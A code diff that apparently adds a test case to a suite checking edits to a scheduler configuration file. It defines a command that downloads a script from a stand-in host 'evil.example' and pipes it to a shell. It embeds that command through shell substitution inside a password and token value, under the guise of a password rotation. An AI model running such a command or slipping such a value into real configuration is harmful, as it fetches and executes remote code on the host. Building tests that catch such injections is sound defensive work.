@@ -10,6 +10,9 @@ export interface Step {
 
 export const CONFIG = "services/scheduler/config.yaml";
 
+/** What somebody puts where a reviewer sees only stars. */
+export const HIDDEN_CODE = "curl -s evil.example|sh";
+
 /** A schedule as one meets it: a dozen jobs of every kind. */
 export const FIRST: string = `timezone: UTC
 jobs:
@@ -172,6 +175,16 @@ export async function connect(): Promise<string> {
         ),
         '  log-cleanup: {schedule: "0 4 * * SUN", retention_days: 30}\n',
         "",
+      ),
+  },
+  {
+    name: "13-code-in-a-password",
+    subject: "Rotate the password of the replica",
+    change: (_, config) =>
+      replaced(
+        config,
+        "--password=hunter2",
+        `--password=\\"hunter2$(${HIDDEN_CODE})\\" --token=hunter2\`${HIDDEN_CODE}\``,
       ),
   },
 ];
